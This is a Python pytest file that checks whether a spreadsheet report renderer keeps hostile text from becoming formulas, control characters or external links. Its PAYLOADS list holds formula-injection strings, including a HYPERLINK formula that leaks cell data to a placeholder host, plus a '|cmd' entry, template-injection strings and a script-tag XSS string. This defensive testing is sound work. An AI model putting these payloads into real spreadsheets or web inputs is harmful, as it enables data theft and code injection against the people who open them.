"""Hostile text in every field of every paper stays text: no formula, no error value, no control sign, nothing evaluated; a real program opens it."""

from __future__ import annotations

import re
import shutil
import subprocess
import unicodedata
from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from io import BytesIO
from itertools import cycle
from pathlib import Path
from typing import Any
from xml.etree import ElementTree
from zipfile import ZipFile

import pytest
from workbook_dump import open_book

from reports.figures.figure import Figure
from reports.inert import CELL_LIMIT, CUT_MARK
from reports.placeholders.contexts import register_contexts, week_contexts
from reports.renderer.fill import Link
from reports.renderer.render import render_workbook
from reports.wording import without_percentages

TEMPLATES = Path(__file__).parents[2] / "reports" / "templates"
SOFFICE = shutil.which("soffice")
PAYLOADS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"押す")', "=1+1", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r\n=1+1", "＝1+1", "|cmd", "#N/A", "#REF!",
    "TRUE", "1E9", "0123", "{{ 7*7 }}", "{% for x in book.cases %}", "{# 改ページ可 #}", "${7*7}", "_x000D_", "_x0041_=1", "a_x005F_x0041_",
    "\x00\x07\x1b[31m", "\x85\u2028\u2029", "\ud800", "\udfff外", "\u202e甲乙丙\u202c", "\u200f右から\u061c", "\ufeff先頭",
    "<script>alert(1)</script>&amp;<![CDATA[", "]]>", "&[ファイル名]&Z&F", "'", "''1", "𠮷髙﨑", "葛\U000e0100", "x" * 40_000, "改\n行" * 500,
    "  前後  ", "39%", "",
)  # fmt: skip
_UNSEEN = "\u202e\u200f\u061c\ufeff"
_KEPT = {"sheet", "id_text", "identity"}  # made by us and not by anybody's data


def hostile(value: Any, words: Iterator[str]) -> Any:
    """The same with every text replaced, also in figures and links."""
    if isinstance(value, str):
        return next(words)
    if isinstance(value, tuple):
        return tuple(hostile(one, words) for one in value)
    if isinstance(value, Link):
        return Link(next(words), value.sheet)
    if isinstance(value, Figure):
        labels = [replace(one, text=next(words)) if hasattr(one, "text") else one for one in value.shapes]
        return replace(value, shapes=tuple(labels), description=next(words))
    if is_dataclass(value) and not isinstance(value, type):
        return replace(value, **{one.name: hostile(getattr(value, one.name), words) for one in fields(value) if one.name not in _KEPT})
    return value


def _rendered(name: str, context: Any, start: int = 0) -> bytes:
    words = cycle(PAYLOADS[start:] + PAYLOADS[:start])
    stream = BytesIO()
    render_workbook(TEMPLATES / name, {"book": hostile(context["book"], words)}, stream, wording=without_percentages)
    return stream.getvalue()


CONTEXTS = {"conference.xlsx": week_contexts, "case_sheet.xlsx": week_contexts, "register.xlsx": register_contexts}


@pytest.mark.parametrize(("name", "start"), [("conference.xlsx", 0), ("conference.xlsx", 19), ("case_sheet.xlsx", 7), ("register.xlsx", 31)])
def test_hostile_text_stays_text(name: str, start: int) -> None:
    """Whatever stands in whichever field: cells hold text or whole numbers, without controls, marks of direction or halves of letters."""
    for sheet in open_book(BytesIO(_rendered(name, CONTEXTS[name]()[0], start))).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n", "inlineStr"), f"{sheet.title} {cell.coordinate} {cell.data_type}"
                if isinstance(cell.value, str):
                    assert len(cell.value) <= CELL_LIMIT
                    assert "49" not in cell.value.split(), cell.coordinate
                    kinds = {unicodedata.category(letter) for letter in cell.value if letter not in "\t\n"}
                    assert not kinds & {"Cc", "Cs"} and not set(cell.value) & set(_UNSEEN), f"{sheet.title} {cell.coordinate}"
                elif cell.value is not None:
                    assert isinstance(cell.value, int), cell.coordinate


def test_no_part_of_the_package_is_broken_or_leads_outside() -> None:
    """Every part is well-formed XML, drawings included, and no relation has a target outside the file."""
    with ZipFile(BytesIO(_rendered("conference.xlsx", week_contexts()[0]))) as archive:
        for part in archive.namelist():
            content = archive.read(part)
            if part.endswith((".xml", ".rels")):
                ElementTree.fromstring(content)
            assert b'TargetMode="External"' not in content, part
            assert b"<f>" not in content and b"<f " not in content, part


def test_texts_that_look_escaped_come_back_as_they_were() -> None:
    """`_x000D_` in a name is six letters and not a control sign, before and after."""
    texts = _texts(_rendered("case_sheet.xlsx", week_contexts()[0]))
    assert {"_x000D_", "_x0041_=1", "a_x005F_x0041_", "=1+1", "{{ 7*7 }}", "𠮷髙﨑"} <= set(texts)
    assert any(text.endswith(CUT_MARK) for text in texts)


def _texts(content: bytes) -> list[str]:
    """What a program shows: openpyxl leaves the escape of an underscore as it stands in the file."""
    cells = [cell for sheet in open_book(BytesIO(content)).worksheets for row in sheet.iter_rows() for cell in row]
    return [str(cell.value).replace("_x005F_", "_") for cell in cells if cell.value is not None]


def _unescaped(value: Any) -> str:
    """Without any escape of an underscore: LibreOffice saves one less than it reads."""
    return re.sub(r"_(x005F_)+", "_", str(value))


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) がないため、ほかのソフトで開けることを確かめていません")
def test_another_program_opens_and_saves_it_without_a_formula(tmp_path: Path) -> None:
    """LibreOffice finds the same texts in the same cells, and not one formula."""
    content = _rendered("case_sheet.xlsx", week_contexts()[0])
    path = tmp_path / "資料.xlsx"
    path.write_bytes(content)
    subprocess.run(
        [str(SOFFICE), f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "xlsx", "--outdir", str(tmp_path / "saved"), str(path)],
        check=True, capture_output=True, timeout=100,
    )
    saved = (tmp_path / "saved" / "資料.xlsx").read_bytes()
    with ZipFile(BytesIO(saved)) as archive:
        sheets = [archive.read(part) for part in archive.namelist() if part.startswith("xl/worksheets/sheet")]
    assert sheets and all(b"<f " not in sheet and b"<f>" not in sheet for sheet in sheets)
    before, after = open_book(BytesIO(content)), open_book(BytesIO(saved))
    for sheet in before.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and len(cell.value) < 1000:
                    assert _unescaped(after[sheet.title][cell.coordinate].value) == _unescaped(cell.value), f"{sheet.title} {cell.coordinate}"
